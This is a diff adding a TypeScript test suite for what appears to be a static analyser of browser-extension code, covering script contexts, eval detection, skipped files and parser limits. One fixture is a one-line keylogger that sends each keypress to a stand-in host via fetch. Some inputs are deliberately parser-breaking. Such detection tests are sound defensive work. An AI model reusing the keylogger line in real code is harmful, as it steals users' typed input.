@@ -1,0 +1,77 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { extensionOf } from '../model/package-fixture.ts';
+import { analyse } from './analyse.ts';
+import { factsOf } from './facts-of.ts';
+
+describe('analyse', () => {
+  it('follows what each context loads, and tells what nothing reaches', () => {
+    const files = {
+      'lib/sync.js': "import './deep.js'",
+      'lib/deep.js': '',
+      'inject.js': '',
+      'late.js': '',
+      'dead.js': '',
+    };
+    const { scripts } = factsOf(
+      "importScripts('lib/sync.js'); chrome.scripting.executeScript({ target: {}, files: ['late.js'] }); s.src = chrome.runtime.getURL('inject.js')",
+      files,
+    );
+    assert.deepEqual(
+      Object.fromEntries(scripts.map(({ file, contexts }) => [file, contexts.join()])),
+      {
+        'dead.js': '',
+        'inject.js': 'injected',
+        'late.js': 'content-script',
+        'lib/deep.js': 'service-worker',
+        'lib/sync.js': 'service-worker',
+        'worker.js': 'service-worker',
+      },
+    );
+  });
+
+  it('reads scripts inside pages at their own place', () => {
+    const { dynamicCode } = analyse(
+      extensionOf({}, { 'page.html': '<p>\n<script>eval(x)</script>' }),
+    );
+    assert.deepEqual(dynamicCode[0]?.at, { file: 'page.html', line: 2, column: 9 });
+  });
+
+  it('leaves out files that a supervisor names, and tells it of each one parsed', () => {
+    const parsed: string[] = [];
+    const extension = extensionOf({}, { 'a.js': 'eval(1)', 'b.js': 'eval(2)' });
+    const { dynamicCode, skipped } = analyse(extension, {
+      skippedFiles: new Map([['a.js', 'it crashed']]),
+      onParse: (file) => parsed.push(file),
+    });
+    assert.deepEqual(parsed, ['b.js']);
+    assert.deepEqual(skipped, [{ what: 'a.js', why: 'it crashed' }]);
+    assert.equal(dynamicCode.length, 1);
+  });
+
+  it('says what it cannot read instead of failing', () => {
+    const hostile = {
+      'nested.js': '['.repeat(100_000),
+      'sum.js': `x = ${'a+'.repeat(50_000)}1`,
+      'members.js': `a${'.b'.repeat(50_000)}`,
+      'arrows.js': `${'a=>'.repeat(100_000)}1`,
+      'broken.js': 'function (',
+    };
+    const { skipped } = factsOf('eval(1)', hostile);
+    assert.deepEqual(
+      skipped.map(({ what }) => what),
+      Object.keys(hostile).sort(),
+    );
+  });
+
+  it('bounds what one script may add, and says so', () => {
+    const { uses, skipped } = factsOf('fetch(1);'.repeat(20_000));
+    assert.ok(uses.length <= 5_000);
+    assert.match(skipped[0]?.why ?? '', /more facts/);
+  });
+
+  it('gives the same facts for the same package', () => {
+    const source = "document.addEventListener('keydown', (e) => fetch('https://a.dev/?' + e.key))";
+    assert.equal(JSON.stringify(factsOf(source)), JSON.stringify(factsOf(source)));
+  });
+});
